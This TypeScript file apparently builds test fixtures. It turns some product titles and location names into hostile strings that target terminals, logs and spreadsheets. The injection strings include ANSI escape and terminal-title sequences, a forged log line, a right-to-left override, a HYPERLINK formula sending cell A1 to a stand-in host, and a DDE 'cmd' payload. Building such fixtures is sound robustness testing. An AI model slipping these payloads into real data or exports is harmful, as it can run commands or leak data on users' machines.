const attacks: Readonly<Record<number, (title: string) => string>> = {
  1: (title) => `\u001b[31m${title}\u001b[0m\u001b]0;đã chiếm\u0007`,
  4: (title) => `${title}\r\nERROR: mọi thứ đã khớp`,
  7: (title) => `${title} \u202egnàh ếht\u202c\u200f`,
  10: (title) => `=HYPERLINK("http://example.invalid/?x="&A1,"${title}")`,
  13: (title) => `@SUM(1+1)*cmd|' /C calc'!A0 ${title}`,
  16: (title) => `\t${title}\u0000\u0085`
}

/** Returns a product's title, one in eight of which attacks a terminal, a table, a log or a spreadsheet. */
export const hostileTitle = (title: string, product: number): string => attacks[product % 48]?.(title) ?? title

/** Returns a location's name, every fourth of which attacks a terminal and a spreadsheet. */
export const hostileLocationName = (name: string, location: number): string =>
  location % 4 === 3 ? `=\u001b[2J${name}\r\n` : name

/** Writes a text with blanks around it and decomposed letters, so that only normalization makes it equal again. */
export const denormalized = (text: string): string => ` ${text.normalize("NFD")} `
